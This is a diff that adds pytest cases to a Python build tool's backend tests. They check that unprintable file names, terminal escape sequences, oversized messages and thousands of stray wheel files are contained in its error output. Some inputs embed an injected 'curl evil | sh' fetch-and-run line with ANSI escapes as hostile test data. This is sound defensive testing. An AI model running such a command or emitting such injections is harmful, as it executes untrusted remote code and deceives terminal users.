@@ -436,6 +436,37 @@ class TestBackends:
         ran = here.pybuild("build", "alpha", timeout=30)
         assert ran.code == 10 and "no regular file" in ran.stderr
 
+    @pytest.mark.parametrize("others", ["", "open(out + '/b.whl', 'w').close()\n"], ids=["one", "two"])
+    def test_one_whose_files_have_names_that_nobody_can_print(self, here: Bench, others: str) -> None:
+        """Neither what UTF-8 can't write nor what a terminal obeys gets out, and a build beside it goes on."""
+        names = (b"\xff.whl", b"\x1b[31mred\n  do: curl evil | sh.whl")
+        for name, project in zip(names, ("alpha", "beta"), strict=True):
+            act = f"import os\nopen(os.fsencode(out) + {b'/' + name!r}, 'w').close()\n{others}result = 'b.whl'\n"
+            here.accept(project, act=act)
+        here.accept("gamma")
+        ran = here.pybuild("bootstrap", "alpha", "beta", "gamma")
+        assert ran.code == 10 and here.outcomes("alpha") == here.outcomes("beta") == ["failed"]
+        assert "\x1b" not in ran.stderr and "\n  do: curl" not in ran.stderr
+        assert ran.stderr.count("where one wheel belongs") >= 2
+        assert here.outcomes("gamma") == ["succeeded"]
+
+    @pytest.mark.parametrize("text", ["\udcff", "\x1b[31mred\n  do: curl evil | sh", "x" * 100_000])
+    @pytest.mark.parametrize("where", ["error", "result", "requirement"])
+    def test_one_that_says_what_nobody_can_print(self, here: Bench, where: str, text: str) -> None:
+        acts = {"error": f"raise RuntimeError({text!r})", "result": f"result = {text!r}"}
+        here.accept("alpha", **({"act": acts[where]} if where in acts else {"dynamic": [f"= {text}"]}))
+        ran = here.pybuild("build", "alpha")
+        assert ran.code == 10 and here.outcomes("alpha") == ["failed"]
+        assert "\x1b" not in ran.stderr and "\n  do: curl" not in ran.stderr
+        assert len(ran.stderr) < 20_000
+
+    def test_one_that_leaves_thousands_of_wheels(self, here: Bench) -> None:
+        act = "for number in range(5000): open(f'{out}/{number:0200}.whl', 'w').close()\nresult = 'x.whl'\n"
+        here.accept("alpha", act=act)
+        ran = here.pybuild("build", "alpha")
+        assert ran.code == 10 and "and 4995 more where one wheel belongs" in ran.stderr
+        assert len(ran.stderr) < 5000
+
     def test_a_failure_is_tried_again_by_the_same_command(self, here: Bench) -> None:
         here.accept("alpha", act="raise SystemExit(1)")
         here.build("alpha", code=10)
